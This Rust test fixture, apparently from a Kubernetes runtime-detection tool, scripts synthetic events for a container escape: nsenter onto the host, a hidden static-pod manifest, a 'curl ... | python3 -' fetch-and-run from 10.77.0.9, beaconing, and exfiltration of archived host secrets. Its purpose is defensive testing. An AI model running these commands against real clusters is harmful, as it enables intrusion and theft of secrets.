//! The reference attack: out of a privileged pod onto the node, and back into a pod that nobody sees.

use std::time::Duration;

use lanner_core::detect::{ChainMatch, Incident, Link, LinkKind, ProcessSummary, Severity, Stage, Status, Tactic};
use lanner_core::event::{
    BlindSpot, ContainerId, Event, Hook, HookLayer, HookState, NodeInfo, Payload, ProcessKey, StdioKind, Text,
};

use super::script::{Place, Script};

/// The pod that is broken into.
pub(super) const CONTAINER_A: &str = "3b1f09c27a11d4e05b8f6c92aa0417ee3d5c1b7f90826e4a7d13c58b02f6e9a4";
/// The hidden pod.
pub(super) const CONTAINER_B: &str = "9f3c2a1b77d04c6e8b5a0f13d29e7c64a1b80d5f3e2c97468ab1f0d3c5e79b28";

const POD_A: &str = "6f1c2d3e-4a5b-4c6d-8e9f-0a1b2c3d4e5f";
const POD_B: &str = "0123456789abcdef0123456789abcdef";

fn secs(n: u64) -> Duration {
    Duration::from_secs(n)
}

/// The node, with one hook that could not be attached.
pub(super) fn node() -> NodeInfo {
    let hook = |name: &str, layer, state, without: &str| Hook {
        name: name.to_owned(),
        layer,
        state,
        without: without.to_owned(),
    };
    let refused = HookState::Refused("the kernel has no BPF trampoline for it".to_owned());
    NodeInfo {
        name: "node-1".to_owned(),
        boot_id: "5a6f2d0e-1c3b-4a59-9d8e-7f6a5b4c3d2e".to_owned(),
        kernel: "6.1.0-18-amd64".to_owned(),
        machine: "x86_64".to_owned(),
        wall_offset: 1_772_359_200_000_000_000,
        version: "0.1.0".to_owned(),
        hooks: vec![
            hook("sched_process_exec", HookLayer::Base, HookState::Attached, "programs that are started"),
            hook("sched_process_fork", HookLayer::Base, HookState::Attached, "processes that only fork"),
            hook("sched_process_exit", HookLayer::Base, HookState::Attached, "when processes end"),
            hook("inet_sock_set_state", HookLayer::Base, HookState::Attached, "TCP connections"),
            hook(
                "sys_exit",
                HookLayer::Base,
                HookState::Waiting("a 32-bit program".to_owned()),
                "32-bit calls of 64-bit programs",
            ),
            hook("security_file_open", HookLayer::Full, refused, "files opened through io_uring"),
        ],
        blind: vec![BlindSpot { family: "open".to_owned(), what: "writes through older descriptors".to_owned() }],
    }
}

struct Node {
    containerd: ProcessKey,
    kubelet: ProcessKey,
    shim_a: ProcessKey,
}

/// A node on which nothing is wrong.
pub(super) fn quiet() -> Script {
    let mut script = Script::starting_at(secs(8_000));
    begin(&mut script);
    script
}

fn begin(script: &mut Script) -> Node {
    let init = script.alive(1, None, &Place { cgroup: "/init.scope".into(), ..Place::default() }, &["/sbin/init"]);
    script.alive(2, None, &Place::default(), &["kthreadd"]);
    for (pid, name) in [(14, "ksoftirqd/0"), (29, "kworker/0:1"), (31, "kcompactd0")] {
        script.alive(pid, Some(ProcessKey::new(2, 2_000_000)), &Place::default(), &[name]);
    }
    script.alive(410, Some(init), &Place::service("systemd-journald.service"), &["/lib/systemd/systemd-journald"]);
    script.alive(612, Some(init), &Place::service("cron.service"), &["/usr/sbin/cron", "-f"]);
    let sshd = script.alive(640, Some(init), &Place::service("ssh.service"), &["/usr/sbin/sshd", "-D"]);
    let session = Place { cgroup: "/user.slice/user-1000.slice/session-3.scope".into(), uid: 1000, ..Place::default() };
    let login = script.alive(1_904, Some(sshd), &session.clone(), &["sshd: ada@pts/0"]);
    let bash = script.alive(1_910, Some(login), &session.clone().tty("pts0"), &["-bash"]);
    script.alive(2_210, Some(bash), &session.tty("pts0"), &["vim", "notes.md"]);
    let containerd = script.alive(701, Some(init), &Place::service("containerd.service"), &["containerd"]);
    let kubelet = script.alive(
        822,
        Some(init),
        &Place::service("kubelet.service"),
        &["kubelet", "--config=/etc/kubernetes/kubelet.yaml"],
    );
    let service = Place::service("containerd.service");
    let shim_a = script.alive(3_010, Some(init), &service, &["containerd-shim-runc-v2", "-id", &CONTAINER_A[..12]]);
    let inside = Place::container(POD_A, CONTAINER_A, 4_026_532_500);
    let web = script.alive(3_044, Some(shim_a), &inside, &["python3", "-m", "http.server", "8080"]);
    script.listen(web, "0.0.0.0:8080");
    Node { containerd, kubelet, shim_a }
}

/// The attack, and the incident that it makes.
pub(super) fn attack() -> (Script, Incident) {
    let mut script = Script::starting_at(secs(8_000));
    let node = begin(&mut script);
    let mut stages: Vec<Stage> = Vec::new();
    let in_a = Place::container(POD_A, CONTAINER_A, 4_026_532_500).tty("pts1");
    let out_of_a = in_a.clone().in_host_namespaces();
    let in_b = Place::container(POD_B, CONTAINER_B, 4_026_532_700);

    script.wait(secs(311));
    let first_time = script.now();
    let (shell, exec) = script.spawn(node.shim_a, &in_a, &["/bin/sh"]);
    stages.push(stage(
        &script,
        Tactic::Execution,
        "T1609",
        Severity::Medium,
        shell,
        vec![exec],
        "sh was started in container 3b1f09c27a11 from outside, with a terminal",
        None,
    ));

    script.wait(secs(50));
    let (nsenter, exec) = script.spawn(shell, &in_a, &["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "bash"]);
    let setns = script.setns(nsenter, in_a.namespaces.unwrap());
    let (bash, _) = script.spawn(nsenter, &out_of_a, &["bash"]);
    stages.push(stage(
        &script,
        Tactic::PrivilegeEscalation,
        "T1611",
        Severity::Critical,
        nsenter,
        vec![exec, setns],
        "nsenter left container 3b1f09c27a11 for the mnt, net, uts, ipc and cgroup namespaces of the host",
        link(LinkKind::Lineage, 0, "nsenter is a child of the shell that was started from outside", vec![exec]),
    ));

    script.wait(secs(124));
    let manifest = "/etc/kubernetes/manifests/hack-latest.yaml";
    let (cat, _) = script.spawn(bash, &out_of_a, &["cat"]);
    let write = script.open(cat, manifest, 91_002, true, true);
    script.exit(cat, 0);
    stages.push(stage(
        &script,
        Tactic::Persistence,
        "T1543.005",
        Severity::Critical,
        cat,
        vec![write],
        "cat created /etc/kubernetes/manifests/hack-latest.yaml, from which the kubelet starts a pod by itself",
        link(LinkKind::Lineage, 1, "cat is a child of the bash that nsenter brought onto the host", vec![write]),
    ));

    script.wait(Duration::from_millis(640));
    let read = script.open(node.kubelet, manifest, 91_002, false, false);
    let service = Place::service("containerd.service");
    let (shim_b, _) = script.spawn(node.containerd, &service, &["containerd-shim-runc-v2", "-id", &CONTAINER_B[..12]]);
    let command = "curl -s http://10.77.0.9:8000/agent.py | python3 -";
    let (hidden, exec) = script.spawn(shim_b, &in_b, &["/bin/sh", "-c", command]);
    stages.push(stage(
        &script,
        Tactic::DefenseEvasion,
        "T1610",
        Severity::High,
        hidden,
        vec![exec],
        "container 9f3c2a1b77d0 was started as a static pod that no API server knows of",
        link(
            LinkKind::WroteStarted,
            2,
            "the kubelet started container 9f3c2a1b77d0 from hack-latest.yaml 0.6 s after cat had written it",
            vec![write, read, exec],
        ),
    ));

    script.wait(secs(2));
    let pipe = |kind, ino| lanner_core::event::Stdio { kind, ino, peer: None };
    let (curl, _) = script.spawn_with(hidden, &in_b, &["curl", "-s", "http://10.77.0.9:8000/agent.py"], |image| {
        image.stdio[1] = pipe(StdioKind::Pipe, 77_120);
    });
    let fetch = script.connect(curl, "10.77.0.9:8000", 96);
    script.exit(curl, 0);
    let (python, exec) = script.spawn_with(hidden, &in_b, &["python3", "-"], |image| {
        image.stdio[0] = pipe(StdioKind::Pipe, 77_120);
    });
    stages.push(stage(
        &script,
        Tactic::Execution,
        "T1059.006",
        Severity::High,
        python,
        vec![fetch, exec],
        "python3 ran code that came from curl through a pipe and never was on a disk",
        link(
            LinkKind::SameContainer,
            3,
            "it runs in container 9f3c2a1b77d0, which was started from the manifest",
            vec![exec],
        ),
    ));

    script.wait(secs(5));
    let mut beacons = Vec::new();
    for _ in 0..12 {
        beacons.push(script.connect(python, "10.77.0.9:443", 148));
        script.wait(secs(5));
    }
    let mut beacon = stage(
        &script,
        Tactic::CommandAndControl,
        "T1071.001",
        Severity::High,
        python,
        beacons.clone(),
        "python3 calls 10.77.0.9:443 every 5 s, as regularly as a clock",
        link(LinkKind::SameProcess, 4, "it is the python3 that ran the fetched code", vec![beacons[0]]),
    );
    beacon.time = time_of(&script, beacons[0]);
    beacon.count = 12;
    stages.push(beacon);

    script.wait(secs(3_660));
    let (tar, exec) = script.spawn(python, &in_b, &["tar", "czf", "/tmp/.cache.tgz", "/host/var/lib/secrets"]);
    let archive = script.open(tar, "/tmp/.cache.tgz", 91_377, true, true);
    script.exit(tar, 0);
    stages.push(stage(
        &script,
        Tactic::Collection,
        "T1560.001",
        Severity::Medium,
        tar,
        vec![exec, archive],
        "tar packed /host/var/lib/secrets into /tmp/.cache.tgz",
        link(LinkKind::Lineage, 4, "tar is a child of the python3 that ran the fetched code", vec![exec]),
    ));

    script.wait(secs(171));
    script.open(python, "/tmp/.cache.tgz", 91_377, false, false);
    let upload = script.connect(python, "10.77.0.9:8443", 48_120_334);
    stages.push(stage(
        &script,
        Tactic::Exfiltration,
        "T1048.003",
        Severity::Critical,
        python,
        vec![upload, upload + 2],
        "python3 sent 48.1 MB to 10.77.0.9:8443 after it had read /tmp/.cache.tgz",
        link(LinkKind::WroteRead, 6, "it read /tmp/.cache.tgz, which tar had written", vec![archive, upload]),
    ));
    script.wait(secs(4));

    let processes = [shell, nsenter, bash, cat, hidden, curl, python, tar];
    let incident = Incident {
        id: "i-4c1f8a02".to_owned(),
        revision: 41,
        name: "Container escape to hidden static pod".to_owned(),
        severity: Severity::Critical,
        status: Status::Ongoing,
        first_time,
        last_time: stages.last().unwrap().time,
        stages,
        processes: processes.iter().map(|key| summary(&script, *key)).collect(),
        files: vec![manifest.into(), "/tmp/.cache.tgz".into()],
        peers: ["10.77.0.9:8000", "10.77.0.9:443", "10.77.0.9:8443"].iter().map(|p| p.parse().unwrap()).collect(),
        chain: Some(ChainMatch {
            name: "Container escape to hidden static pod".to_owned(),
            found: 8,
            steps: 8,
            parts: Vec::new(),
            story: String::new(),
        }),
        score: 34,
        because: String::new(),
        links: Vec::new(),
        links_left_out: 0,
        merged_into: None,
    };
    (script, incident)
}

fn time_of(script: &Script, seq: u64) -> lanner_core::event::BootTime {
    script.events[seq as usize - 1].header.time
}

#[allow(clippy::too_many_arguments)]
fn stage(
    script: &Script,
    tactic: Tactic,
    technique: &str,
    severity: Severity,
    process: ProcessKey,
    evidence: Vec<u64>,
    sentence: &str,
    link: Option<Link>,
) -> Stage {
    let time = time_of(script, *evidence.last().unwrap());
    Stage {
        tactic,
        technique: technique.to_owned(),
        signal: format!("Rule for {technique}"),
        severity,
        time,
        last_time: time,
        count: 1,
        process: summary(script, process),
        sentence: sentence.to_owned(),
        evidence,
        link,
        times: Vec::new(),
    }
}

fn link(kind: LinkKind, to_stage: usize, why: &str, evidence: Vec<u64>) -> Option<Link> {
    Some(Link { kind, to_stage, why: why.to_owned(), evidence })
}

fn summary(script: &Script, key: ProcessKey) -> ProcessSummary {
    let exec = script.events.iter().rev().find_map(|event: &Event| match &event.payload {
        Payload::Exec(exec) if event.header.process == key => Some(exec),
        _ => None,
    });
    let exec = exec.unwrap();
    ProcessSummary {
        key,
        exe: exec.image.exe.path.clone(),
        args: exec.image.args.joined(),
        container: exec.task.context.container.as_ref().map(|c| ContainerId(Text::from(c.0.as_bytes()))),
        parent: exec.task.parent,
    }
}
